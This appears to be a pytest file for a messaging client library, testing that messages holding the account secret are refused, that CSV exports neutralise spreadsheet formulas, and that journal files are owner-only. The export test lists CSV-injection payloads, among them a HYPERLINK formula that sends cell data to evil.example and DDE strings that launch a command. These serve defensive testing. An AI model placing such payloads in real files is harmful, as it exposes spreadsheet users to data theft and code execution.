"""
The user's data handled with care (issue 19): a message holding the account's secret is refused
before anything is sent or stored; CSV exports neutralise what a spreadsheet would run as a
formula; journals and exports are readable by their owner only, whatever the umask.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from loopback import serving

from miogram_async import MioGram, ValidationError
from miogram_async.campaign import Campaign, CampaignError
from miogram_async.campaign._export import neutralise
from miogram_async.cli import cli
from miogram_async.testing import AccountConfig, FakeMioGram

SECRET = "ab/cd-9f31e7"  # a '/' so that its escaped forms differ from it
NUMBERS = [f"+98917{i:07d}" for i in range(12)]


class Service:
    """A mock service that counts what reaches it."""

    def __init__(self) -> None:
        self.requests: list[httpx.Request] = []

    def handle(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        return httpx.Response(200, json={"Result": True, "Status": "success"})

    def client(self, secret: object = SECRET) -> MioGram:
        return MioGram(
            secret,  # type: ignore[arg-type]
            robot="Agent1",
            base_url="https://miogram.test/dojob.php",
            transport=httpx.MockTransport(self.handle),
            send_gate="local",
        )


@pytest.mark.parametrize(
    "message",
    [
        f"Your key is {SECRET}",
        "Your key is AB/CD-9F31E7",  # letter case aside
        "Your key is ab%2Fcd-9f31e7",  # percent-encoded
        "Your key is ab\\/cd-9f31e7",  # JSON-escaped as PHP writes it
    ],
)
async def test_a_message_holding_the_secret_is_refused_before_anything_is_sent(
    message: str,
) -> None:
    """Single and Mass sends, a str or a callable secret: ValidationError, no request at all."""
    service = Service()

    async def secret() -> str:
        return SECRET

    for given in (SECRET, secret):
        async with service.client(given) as client:
            with pytest.raises(ValidationError, match="holds the account's secret") as single:
                await client.send_message(NUMBERS[0], message)
            with pytest.raises(ValidationError, match="holds the account's secret"):
                await client.send_message_mass(NUMBERS, message)
            with pytest.raises(ValidationError, match="holds the account's secret"):
                await client.set_profile_name(message[:30], "x")
        assert SECRET not in str(single.value)
    assert service.requests == []


async def test_a_text_without_the_secret_goes_as_before() -> None:
    """A message that does not hold the secret is sent; a short test secret is not looked for."""
    service = Service()
    async with service.client() as client:
        assert await client.send_message(NUMBERS[0], "ab/cd-9f31e")  # all but its last letter
    async with service.client("s") as short:
        assert await short.send_message(NUMBERS[0], "this message has an s")
    assert len(service.requests) == 2


def test_campaign_create_refuses_a_message_holding_the_environments_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With MIOGRAM_SECRET set, create records nothing: no journal file is left."""
    monkeypatch.setenv("MIOGRAM_SECRET", SECRET)
    journal = tmp_path / "c.sqlite"
    with pytest.raises(CampaignError, match="holds the account's secret"):
        Campaign.create(journal, NUMBERS, message=f"key: {SECRET}")
    assert list(tmp_path.iterdir()) == []


async def test_campaign_run_refuses_a_message_holding_the_clients_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A journal made elsewhere: run sends nothing and says why."""
    monkeypatch.delenv("MIOGRAM_SECRET", raising=False)
    journal = tmp_path / "c.sqlite"
    Campaign.create(journal, NUMBERS, message=f"key: {SECRET}").close()
    service = Service()
    with Campaign.open(journal) as campaign:
        async with service.client() as client:
            with pytest.raises(CampaignError, match="holds the account's secret"):
                await campaign.run(client)
        assert campaign.status().pending == len(NUMBERS)
    assert service.requests == []


@pytest.fixture
def url() -> Iterator[str]:
    """A fake account on loopback whose secret is `SECRET`."""
    with serving(FakeMioGram(AccountConfig(secret=SECRET))) as served:
        yield served


def test_the_command_refuses_such_a_message_before_the_journal_exists(
    tmp_path: Path, url: str
) -> None:
    """campaign run: exit 2, no journal written, the secret never printed."""
    numbers = tmp_path / "numbers.txt"
    numbers.write_text("\n".join(NUMBERS) + "\n", encoding="utf-8")
    journal = tmp_path / "c.sqlite"
    result = CliRunner().invoke(
        cli,
        [
            "--base-url",
            url,
            "campaign",
            "run",
            str(numbers),
            "-m",
            f"k {SECRET}",
            "-j",
            str(journal),
        ],
        env={"MIOGRAM_SECRET": SECRET, "MIOGRAM_SEND_GATE": None},
        catch_exceptions=False,
    )
    assert result.exit_code == 2
    assert "holds the account's secret" in result.stderr
    assert SECRET not in result.output
    assert not journal.exists()


# -- exports ------------------------------------------------------------------------------------


def test_a_csv_export_neutralises_formulas_and_keeps_numbers_readable(tmp_path: Path) -> None:
    """Formula-like cells get a leading quote; +98... numbers and plain numbers stay as they are."""
    inputs = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+2",
        "+989171234567",
        "+98 (917) 123-4568",
        "09171234569",
    ]
    journal = tmp_path / "c.sqlite"
    with Campaign.create(journal, inputs, message="hi") as campaign:
        out = io.StringIO()
        campaign.export(out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    header, items = rows[0], rows[1:]
    assert header == ["seq", "input", "number", "state", "error_code", "error", "robot"]
    by_input = {row[1]: row for row in items}
    for text in inputs[:5]:
        assert by_input["'" + text.strip()][3] == "invalid"  # recorded stripped, then quoted
    assert by_input["+989171234567"][2] == "+989171234567"
    assert by_input["+98 (917) 123-4568"][2] == "+989171234568"
    assert by_input["09171234569"][2] == "+989171234569"
    assert all(not cell.startswith(("=", "@", "\t", "\r")) for row in items for cell in row)
    assert [row[2] for row in items if row[2]] == [
        "+989171234567",
        "+989171234568",
        "+989171234569",
    ]


def test_neutralise_is_the_one_rule_for_every_cell_written() -> None:
    """Any cell, a later column's header too, takes the same rule; numbers pass as they are."""
    assert neutralise("=cmd") == "'=cmd"
    assert neutralise("\t=1+2") == "'\t=1+2"
    assert neutralise("\rx") == "'\rx"
    assert neutralise("-5") == "-5"
    assert neutralise("+98 912 123 4567") == "+98 912 123 4567"
    assert neutralise("+98912x") == "'+98912x"
    assert neutralise("name") == "name"
    assert neutralise(7) == 7


# -- permissions ---------------------------------------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
@pytest.mark.parametrize("umask", [0o022, 0o000])
async def test_journals_and_exports_are_the_owners_only(tmp_path: Path, umask: int) -> None:
    """The journal, its -wal while a run holds it, and an export: 0600, whatever the umask."""
    fake = FakeMioGram(AccountConfig(secret=SECRET))
    journal = tmp_path / "c.sqlite"
    export = tmp_path / "out.csv"
    old = os.umask(umask)
    try:
        with Campaign.create(journal, NUMBERS, message="hi") as campaign:
            async with fake.client() as client:
                await campaign.run(client)
            wal = os.stat(f"{journal}-wal")
            assert stat.S_IMODE(wal.st_mode) == 0o600
            campaign.export(export)
    finally:
        os.umask(old)
    assert stat.S_IMODE(journal.stat().st_mode) == 0o600
    assert stat.S_IMODE(export.stat().st_mode) == 0o600
